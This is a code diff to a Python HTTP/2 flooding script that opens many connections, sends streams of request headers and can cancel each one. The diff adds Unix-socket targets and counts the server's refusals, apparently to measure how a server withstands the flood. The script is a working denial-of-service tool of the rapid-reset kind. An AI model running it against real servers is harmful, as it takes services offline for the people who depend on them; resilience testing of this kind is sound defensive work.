@@ -28,7 +28,7 @@ import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
-END_HEADERS, ACK = 0x4, 0x1
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 CANCEL = 8
 
 
@@ -57,16 +57,30 @@ def call_headers(path: bytes) -> bytes:
 
 
 class Flood(threading.Thread):
-    """One connection's calls, reopened when the server closes it."""
+    """One connection's calls, reopened when the server closes it. `address` is (host, port)
+    or a Unix socket's path. Counts the calls sent and those the server answered (RST_STREAM,
+    or HEADERS ending the stream: a call refused or ended)."""
 
-    def __init__(self, host: str, port: int, until: float, rst: bool, path: bytes):
+    def __init__(self, address: tuple[str, int] | str, until: float, rst: bool, path: bytes):
         super().__init__(daemon=True)
-        self.host, self.port, self.until, self.rst, self.path = host, port, until, rst, path
-        self.calls = 0
+        self.address, self.until, self.rst, self.path = address, until, rst, path
+        self.calls = self.answered = 0
+
+    def _connect(self) -> socket.socket:
+        if not isinstance(self.address, str):
+            return socket.create_connection(self.address, timeout=5)
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        try:
+            s.settimeout(5)
+            s.connect(self.address)
+        except OSError:
+            s.close()
+            raise
+        return s
 
     def _read(self, s: socket.socket) -> None:
         """Answers the server's SETTINGS and PINGs (a peer that did not would be cut off for
-        it, not for its calls); drops the rest."""
+        it, not for its calls); counts its answers to calls; drops the rest."""
         buf = b""
         try:
             while True:
@@ -84,6 +98,8 @@ class Flood(threading.Thread):
                         s.sendall(frame(SETTINGS, ACK, 0))
                     elif kind == PING and not flags & ACK:
                         s.sendall(frame(PING, ACK, 0, payload))
+                    elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
+                        self.answered += 1
         except OSError:
             return
 
@@ -91,7 +107,7 @@ class Flood(threading.Thread):
         block = call_headers(self.path)
         while time.monotonic() < self.until:
             try:
-                s = socket.create_connection((self.host, self.port), timeout=5)
+                s = self._connect()
             except OSError:
                 time.sleep(0.05)
                 continue
@@ -117,7 +133,7 @@ class Flood(threading.Thread):
 
 def flood(host: str, port: int, connections: int, seconds: float, rst: bool, path: str) -> dict:
     until = time.monotonic() + seconds
-    threads = [Flood(host, port, until, rst, path.encode()) for _ in range(connections)]
+    threads = [Flood((host, port), until, rst, path.encode()) for _ in range(connections)]
     for t in threads:
         t.start()
     for t in threads:
